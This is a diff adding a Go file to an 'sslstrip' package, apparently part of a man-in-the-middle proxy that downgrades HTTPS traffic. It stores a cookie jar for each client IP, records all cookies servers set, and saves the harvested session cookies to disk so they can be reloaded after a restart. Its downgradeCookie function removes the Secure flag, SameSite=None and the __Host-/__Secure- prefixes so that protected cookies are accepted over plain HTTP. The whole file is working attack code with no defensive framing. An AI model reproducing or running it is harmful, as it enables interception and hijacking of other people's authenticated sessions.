@@ -0,0 +1,187 @@
+package sslstrip
+
+import (
+	"encoding/json"
+	"io/ioutil"
+	"net/http"
+	"net/http/cookiejar"
+	"net/url"
+	"strings"
+	"sync"
+	"time"
+
+	"golang.org/x/net/publicsuffix"
+)
+
+// rawCookieEntry is a single cookie as originally received from a server,
+// kept around (in addition to the cookiejar.Jar) so session jars can be
+// dumped to disk and replayed on the next run. Domain and Path are
+// denormalized out of Cookie so recordRawCookies can upsert on them without
+// re-deriving a default domain from the entry's URL every time.
+type rawCookieEntry struct {
+	URL    string
+	Domain string
+	Path   string
+	Cookie *http.Cookie
+}
+
+// clientJar is the per-client-IP session state: a real cookiejar.Jar used
+// to attach cookies to outgoing requests, plus the raw entries used for
+// persistence.
+type clientJar struct {
+	jar      http.CookieJar
+	raw      []rawCookieEntry
+	lastSeen time.Time
+}
+
+var (
+	sessionJars   = make(map[string]*clientJar)
+	sessionJarsMu sync.Mutex
+)
+
+// getSessionJar returns (creating if necessary) the cookie jar for a
+// client IP and marks it as recently used.
+func getSessionJar(clientIP string) http.CookieJar {
+	sessionJarsMu.Lock()
+	defer sessionJarsMu.Unlock()
+
+	cj, exists := sessionJars[clientIP]
+	if !exists {
+		jar, _ := cookiejar.New(&cookiejar.Options{PublicSuffixList: publicsuffix.List})
+		cj = &clientJar{jar: jar}
+		sessionJars[clientIP] = cj
+	}
+	cj.lastSeen = time.Now()
+
+	return cj.jar
+}
+
+// recordRawCookies keeps a copy of cookies as originally received, so they
+// can be written out by saveJarFile even though cookiejar.Jar doesn't let
+// us enumerate what it stored. Each cookie upserts by name+domain+path
+// instead of appending unconditionally, so a server that rotates a
+// session/CSRF cookie on every response doesn't grow this slice without
+// bound for the life of the jar.
+func recordRawCookies(clientIP string, u *url.URL, cookies []*http.Cookie) {
+	sessionJarsMu.Lock()
+	defer sessionJarsMu.Unlock()
+
+	cj, exists := sessionJars[clientIP]
+	if !exists {
+		return
+	}
+	for _, cookie := range cookies {
+		domain, path := cookie.Domain, cookie.Path
+		if domain == "" {
+			domain = u.Hostname()
+		}
+		if path == "" {
+			path = "/"
+		}
+
+		replaced := false
+		for i, existing := range cj.raw {
+			if existing.Cookie.Name == cookie.Name && existing.Domain == domain && existing.Path == path {
+				cj.raw[i] = rawCookieEntry{URL: u.String(), Domain: domain, Path: path, Cookie: cookie}
+				replaced = true
+				break
+			}
+		}
+		if !replaced {
+			cj.raw = append(cj.raw, rawCookieEntry{URL: u.String(), Domain: domain, Path: path, Cookie: cookie})
+		}
+	}
+}
+
+// startSessionJarGC periodically evicts session jars that haven't been
+// touched in ttl, so a busy proxy doesn't accumulate one jar per IP ever
+// seen.
+func startSessionJarGC(ttl time.Duration) {
+	go func() {
+		ticker := time.NewTicker(ttl)
+		defer ticker.Stop()
+		for range ticker.C {
+			sessionJarsMu.Lock()
+			for clientIP, cj := range sessionJars {
+				if time.Since(cj.lastSeen) > ttl {
+					delete(sessionJars, clientIP)
+				}
+			}
+			sessionJarsMu.Unlock()
+		}
+	}()
+}
+
+// saveJarFile dumps every session jar's raw cookies to path as JSON.
+func saveJarFile(path string) error {
+	sessionJarsMu.Lock()
+	snapshot := make(map[string][]rawCookieEntry, len(sessionJars))
+	for clientIP, cj := range sessionJars {
+		snapshot[clientIP] = cj.raw
+	}
+	sessionJarsMu.Unlock()
+
+	data, err := json.MarshalIndent(snapshot, "", "  ")
+	if err != nil {
+		return err
+	}
+
+	return ioutil.WriteFile(path, data, 0600)
+}
+
+// loadJarFile replays a snapshot written by saveJarFile back into fresh
+// cookiejar.Jars, so sessions survive a proxy restart.
+func loadJarFile(path string) error {
+	data, err := ioutil.ReadFile(path)
+	if err != nil {
+		return err
+	}
+
+	var snapshot map[string][]rawCookieEntry
+	if err := json.Unmarshal(data, &snapshot); err != nil {
+		return err
+	}
+
+	sessionJarsMu.Lock()
+	defer sessionJarsMu.Unlock()
+
+	for clientIP, entries := range snapshot {
+		jar, _ := cookiejar.New(&cookiejar.Options{PublicSuffixList: publicsuffix.List})
+		for _, entry := range entries {
+			if u, err := url.Parse(entry.URL); err == nil {
+				jar.SetCookies(u, []*http.Cookie{entry.Cookie})
+			}
+		}
+		sessionJars[clientIP] = &clientJar{jar: jar, raw: entries, lastSeen: time.Now()}
+	}
+
+	return nil
+}
+
+// downgradeCookie rewrites a single Set-Cookie header value so a plain
+// http browser will still accept it: the Secure flag and SameSite=None are
+// dropped, and the __Host-/__Secure- name prefixes (which browsers refuse
+// to store over plain http) are stripped.
+func downgradeCookie(raw string) string {
+	parts := strings.Split(raw, ";")
+
+	nameValue := strings.TrimSpace(parts[0])
+	name, value := nameValue, ""
+	if idx := strings.Index(nameValue, "="); idx != -1 {
+		name, value = nameValue[:idx], nameValue[idx+1:]
+	}
+	name = strings.TrimPrefix(name, "__Host-")
+	name = strings.TrimPrefix(name, "__Secure-")
+
+	rebuilt := name + "=" + value
+	for _, attr := range parts[1:] {
+		trimmed := strings.TrimSpace(attr)
+		lower := strings.ToLower(trimmed)
+		if lower == "secure" || lower == "samesite=none" {
+			continue
+		}
+		rebuilt += "; " + trimmed
+	}
+
+	return rebuilt
+}